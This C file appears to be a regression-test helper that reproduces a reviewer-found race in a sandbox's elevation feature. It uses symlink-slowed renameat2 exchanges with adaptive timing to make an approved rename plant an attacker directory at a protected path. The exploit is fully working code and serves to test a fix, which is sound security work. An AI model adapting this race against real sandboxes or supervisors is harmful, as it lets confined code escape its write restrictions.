/* elevate_plant SRC DIR N [DELAY_US]  (tests/cli/elevate.bats)
 *
 * The attack of review 1 of session 15 (finding 1), by the reviewer.  SRC:
 * a file in a directory the sandbox may not write.  DIR: a writable
 * directory (in /tmp) holding evil/, a directory of ours.  Each try: a
 * thread issues ONE renameat2(DIR/doc.txt <-> DIR/evil, RENAME_EXCHANGE)
 * whose path walk is slowed by a chain of symlinks (the gate lets it go at
 * once), then the main thread calls rename(SRC, DIR/doc.txt), which
 * elevation performs (approved for the session).  The delay is swept so
 * the exchange lands just after the supervisor's rename: the build before
 * the fix then found another object at the destination and "put back"
 * what was there, our directory, into SRC's directory under SRC's name.
 * Between tries the file is moved back (elevation, session).  Prints
 * "PLANTED ..." and exits 0 when SRC became our directory; "no hit in N
 * tries" and exits 1 otherwise.  Environment: MAINCPU (the CPU of the main
 * thread; the swapper's is 1), SWEEP (delay step per 200 tries, us), FIXED
 * (no adaptive delay), VERB. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static char xa[8192], xb[8192], dst_g[4096];
static atomic_int fire, fired, entering;
static int xr, xe;
static double tx0, tx1; static int postd, poste;
static double now(void){struct timespec t;clock_gettime(CLOCK_MONOTONIC,&t);return t.tv_sec*1e6+t.tv_nsec/1e3;}
static void *swapper(void *arg)
{
	(void)arg;
	{ cpu_set_t c; CPU_ZERO(&c); CPU_SET(1, &c); if (sched_setaffinity(0, sizeof(c), &c)) perror("swapper affinity"); }
	for (;;) {
		while (!atomic_load(&fire))
			usleep(50);
		atomic_store(&fire, 0);
		tx0 = now();
		atomic_store(&entering, 1);
		if (getenv("WATCH")) {
			struct stat ws;
			xr = -1; xe = ENOENT;
			while (now() - tx0 < 5000)
				if (lstat(dst_g, &ws) == 0) { xr = 0; break; }
		} else
		xr = renameat2(AT_FDCWD, xa, AT_FDCWD, xb, RENAME_EXCHANGE);
		tx1 = now();
		{ struct stat q1, q2; postd = lstat(dst_g, &q1) == 0; poste = lstat(xb, &q2) == 0; }
		xe = errno;
		atomic_store(&fired, 1);
	}
	return NULL;
}
int main(int argc, char **argv)
{
	const char *src = argv[1], *dir = argv[2];
	int n = atoi(argv[3]);
	char dst[4096], evil[4096], pad[4096];
	double d = argc > 4 ? atof(argv[4]) : 150; /* us */
	int early = 0, late = 0;
	struct stat st;
	pthread_t t;

	snprintf(dst, sizeof(dst), "%s/doc.txt", dir);
	snprintf(dst_g, sizeof(dst_g), "%s/doc.txt", dir);
	snprintf(evil, sizeof(evil), "%s/evil", dir);
	/* l0 -> ./././...(2000)/l1 -> ... -> l39 -> . : ~19 us a link */
	memset(pad, 0, sizeof(pad));
	for (int i = 0; i < 2000; i++)
		strcat(pad, "./");
	for (int i = 0; i < 40; i++) {
		char name[4200], target[4096];
		snprintf(name, sizeof(name), "%s/l%d", dir, i);
		snprintf(target, sizeof(target), "%sl%d", pad, i + 1);
		if (i == 39)
			snprintf(target, sizeof(target), "%s.", pad);
		unlink(name);
		if (symlink(target, name) < 0) {
			perror("symlink");
			return 1;
		}
	}
	{ cpu_set_t c; CPU_ZERO(&c); CPU_SET(getenv("MAINCPU") ? atoi(getenv("MAINCPU")) : 0, &c); if (sched_setaffinity(0, sizeof(c), &c)) perror("affinity"); }
	if (getenv("START_DELAY")) sleep(atoi(getenv("START_DELAY")));
	pthread_create(&t, NULL, swapper, NULL);
	for (int i = 0; i < n; i++) {
		unsigned r;
		double dd;
		int k, m, rr, e;

		getrandom(&r, sizeof(r), 0);
		if (getenv("SWEEP")) d = (i / 200) * atof(getenv("SWEEP"));
		dd = d + ((double)(r % 2001) - 1000.0) / 1000.0 * 3.0;
		if (dd < 0)
			dd = 0;
		k = (int)(dd / 19.0);
		if (k > 39)
			k = 39;
		m = (int)((dd - k * 19.0) * 100.0);
		if (m > 1900)
			m = 1900;
		{
			size_t o = (size_t)snprintf(xa, sizeof(xa), "%s/", dir);
			for (int j = 0; j < m; j++)
				o += (size_t)snprintf(xa + o, sizeof(xa) - o, "./");
			if (k)
				snprintf(xa + o, sizeof(xa) - o, "l%d/doc.txt", 40 - k);
			else
				snprintf(xa + o, sizeof(xa) - o, "doc.txt");
		}
		snprintf(xb, sizeof(xb), "%s", evil);
		atomic_store(&fired, 0);
		atomic_store(&entering, 0);
		atomic_store(&fire, 1);
		while (!atomic_load(&entering)) sched_yield();
		if (argc > 5) { double w = atof(argv[5]); while (now() - tx0 < w) ; }
		double tr0 = now();
		rr = rename(src, dst);
		double tr1 = now();
		e = errno;
		while (!atomic_load(&fired))
			usleep(50);
		if (lstat(src, &st) == 0 && S_ISDIR(st.st_mode)) {
			printf("PLANTED at try %d (delay %.1f us): rename=%d (%s); %s is now our directory\n",
			       i + 1, dd, rr, rr ? strerror(e) : "ok", src);
			return 0;
		}
		if (xr < 0 && xe == ENOENT) {
			early++;
			if (!getenv("FIXED")) d += 1;
		} else if (xr == 0) {
			late++;
			if (!getenv("FIXED")) d -= 1;
		}
		if (getenv("SWEEP") && i % 200 == 199) { fprintf(stderr, "SWEEP d=%.0f early=%d late=%d\n", d, early, late); early = late = 0; }
		if (d < 0)
			d = 0;
		if (d > 740)
			d = 700;
		if (getenv("VERB")) { struct timespec rt; clock_gettime(CLOCK_REALTIME,&rt); fprintf(stderr, "  now=%ld.%06ld\n", rt.tv_sec, rt.tv_nsec/1000); } if (getenv("VERB")) fprintf(stderr, "  post dst=%d evil=%d xe=%s\n", postd, poste, strerror(xe)); if (getenv("VERB")) fprintf(stderr, "  dd=%.0f xr=%d x %.0f..%.0f rename %.0f..%.0f\n", dd, xr, 0.0, tx1-tx0, tr0-tx0, tr1-tx0);
		if (i % 100 == 0)
			fprintf(stderr, "try %d d=%.1f early=%d late=%d rename=%d xr=%d/%s\n", i, d,
				early, late, rr, xr, strerror(xe));
		/* Reset: the file at doc.txt, our directory at evil, then
		 * the file back to SRC. */
		if (lstat(dst, &st) == 0 && S_ISDIR(st.st_mode))
			renameat2(AT_FDCWD, dst, AT_FDCWD, evil, RENAME_EXCHANGE);
		if (lstat(dst, &st) == 0 && S_ISREG(st.st_mode)) {
			if (rename(dst, src) < 0) {
				printf("move back refused: %s\n", strerror(errno));
				return 1;
			}
		} else if (lstat(src, &st) != 0) {
			printf("lost track at %d (rename=%d %s)\n", i, rr, strerror(e));
			return 1;
		}
	}
	printf("no hit in %d tries: early=%d late=%d d=%.1f\n", n, early, late, d);
	return 1;
}
